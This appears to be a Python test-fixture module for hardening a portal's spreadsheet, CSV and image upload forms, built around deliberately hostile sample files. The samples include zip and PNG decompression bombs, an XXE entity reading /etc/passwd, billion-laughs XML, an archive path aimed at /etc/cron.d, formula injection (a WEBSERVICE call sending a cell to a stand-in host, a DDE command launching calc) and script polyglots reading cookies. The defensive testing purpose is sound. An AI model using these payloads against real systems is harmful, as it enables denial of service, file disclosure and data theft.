"""Uploads that mean harm, made in memory: each a name and bytes. What a corpus of attacks on upload forms holds."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping

import openpyxl
from PIL import Image

from tests.files import samples

MB = 1024 * 1024
_ENTITIES = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BILLION_LAUGHS = (
    f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{_ENTITIES}]><sst><si><t>&l9;</t></si></sst>'
)
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><sst><si><t>&f;</t></si></sst>'
_SHEET = "xl/worksheets/sheet1.xml"
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def plain_book(rows=(("Nama", "Unit"), ("N. Contoh", "UPT Puskesmas Melati"))) -> bytes:
    """An ordinary workbook."""
    book, out = openpyxl.Workbook(), io.BytesIO()
    for row in rows:
        book.active.append(list(row))
    book.save(out)
    return out.getvalue()


def with_members(members: Mapping[str, bytes | str], book: bytes | None = None) -> bytes:
    """The workbook with members added or replaced."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(book or plain_book())) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            if name not in members:
                new.writestr(name, old.read(name))
        for name, content in members.items():
            new.writestr(name, content)
    return out.getvalue()


def zip_bomb() -> bytes:
    return with_members({_SHEET: b"\0" * (300 * MB)})


def nested_zip() -> bytes:
    data = b"\0" * (20 * MB)
    for level in range(6):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as box:
            for copy in range(4):
                box.writestr(f"{level}-{copy}.zip", data)
        data = out.getvalue()
    return data


def huge_shared_strings() -> bytes:
    texts = "".join(f"<si><t>{n}</t></si>" for n in range(900_000))
    return with_members({"xl/sharedStrings.xml": f"<sst {_NS}>{texts}</sst>"})


def one_text_in_every_cell() -> bytes:
    cells = '<c t="s"><v>0</v></c>' * 60
    rows = "".join(f'<row r="{n}">{cells}</row>' for n in range(1, 2001))
    return with_members(
        {
            "xl/sharedStrings.xml": f"<sst {_NS}><si><t>{'kata ' * 1_000_000}</t></si></sst>",
            _SHEET: f"<worksheet {_NS}><sheetData>{rows}</sheetData></worksheet>",
        }
    )


def million_cells() -> bytes:
    row = "<c><v>1</v></c>" * 1000
    cells = "".join(f'<row r="{n}">{row}</row>' for n in range(1, 1001))
    return with_members({_SHEET: f"<worksheet {_NS}><sheetData>{cells}</sheetData></worksheet>"})


def far_away_cell() -> bytes:
    rows = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    sheet = f'<worksheet {_NS}><dimension ref="A1:XFD1048576"/><sheetData>{rows}</sheetData></worksheet>'
    return with_members({_SHEET: sheet})


def deep_xml() -> bytes:
    return with_members({_SHEET: f"<worksheet {_NS}>{'<a>' * 400_000}"})


def formulas() -> bytes:
    evil = '=WEBSERVICE("http://contoh.test/?"&A1)'
    return plain_book((("Nama", "Unit"), (evil, "=cmd|' /C calc'!A0"), ("@SUM(1)", "+1")))


def polyglot() -> bytes:
    return samples.jpeg() + b"<html><script>alert(document.cookie)</script></html>"


def html_in_jpeg_clothes() -> bytes:
    return b"\xff\xd8\xff\xe0<html><script>alert(1)</script>"


def big_png(width: int = 30_000, height: int = 30_000) -> bytes:
    """A real picture of one colour: 900 million points in a few hundred kilobytes."""
    import struct
    import zlib

    packer, line = zlib.compressobj(9), b"\0" + b"\0" * (width // 8)
    body = b"".join(packer.compress(line) for _ in range(height)) + packer.flush()

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def png_of_text(size: int = 12 * MB) -> bytes:
    """A small picture whose compressed comment unpacks to many megabytes."""
    from PIL.PngImagePlugin import PngInfo

    info, out = PngInfo(), io.BytesIO()
    info.add_text("Comment", "a" * size, zip=True)
    Image.new("RGB", (8, 8)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def endless_csv() -> bytes:
    return b"a;" * 1_000_000


# What no form of the portal takes: name → (file name, bytes).
REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
    "zip bomb": ("data.xlsx", zip_bomb),
    "nested zip": ("data.xlsx", nested_zip),
    "nothing": ("kosong.xlsx", lambda: b""),
    "svg": ("gambar.svg", lambda: samples.SVG),
    "svg named jpg": ("gambar.jpg", lambda: samples.SVG),
    "html named jpg": ("foto.jpg", lambda: samples.HTML),
    "html after a jpeg mark": ("foto.jpg", html_in_jpeg_clothes),
    "truncated jpeg": ("foto.jpg", lambda: samples.jpeg(800, 600)[:2000]),
    "png of 900 million points": ("foto.png", big_png),
    "png that claims to be huge": ("foto.png", lambda: samples.png_header(2**31 - 1, 2**31 - 1)),
    "png with a comment of 12 MB": ("foto.png", png_of_text),
    "macro workbook": ("data.xlsm", lambda: with_members({"xl/vbaProject.bin": b"x"})),
    "program": ("setup.exe", lambda: b"MZ" + b"\0" * 500),
    "old office": ("data.xls", lambda: samples.OLE),
}  # fmt: skip
# What is a hostile table, whatever a form for documents thinks of it.
TABLES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "xxe": ("data.xlsx", lambda: with_members({"xl/sharedStrings.xml": XXE})),
    "xxe in utf-16": ("data.xlsx", lambda: with_members({"xl/sharedStrings.xml": XXE.encode("utf-16")})),
    "billion laughs": ("data.xlsx", lambda: with_members({"xl/sharedStrings.xml": BILLION_LAUGHS})),
    "huge shared strings": ("data.xlsx", huge_shared_strings),
    "one text in every cell": ("data.xlsx", one_text_in_every_cell),
    "million cells": ("data.xlsx", million_cells),
    "a cell far away": ("data.xlsx", far_away_cell),
    "deep xml": ("data.xlsx", deep_xml),
    "link to another file": ("data.xlsx", lambda: with_members({"xl/externalLinks/externalLink1.xml": "<x/>"})),
    "path out of the archive": ("data.xlsx", lambda: with_members({"/etc/cron.d/x": "x"})),
    "formulas": ("data.xlsx", formulas),
    "csv of a million columns": ("data.csv", endless_csv),
    "csv of formulas": ("data.csv", lambda: b'Nama;Unit\n"=HYPERLINK(""http://contoh.test"")";@SUM(1)\n'),
    "csv with open quotes": ("data.csv", lambda: b'"a;' * 300_000),
    "csv of one long cell": ("data.csv", lambda: b"a" * (2 * MB - 1)),
    "utf-16 without a table": ("data.csv", lambda: "apa saja\u202e\u0000".encode("utf-16")),
    "bytes": ("data.csv", lambda: bytes(range(256)) * 500),
}  # fmt: skip
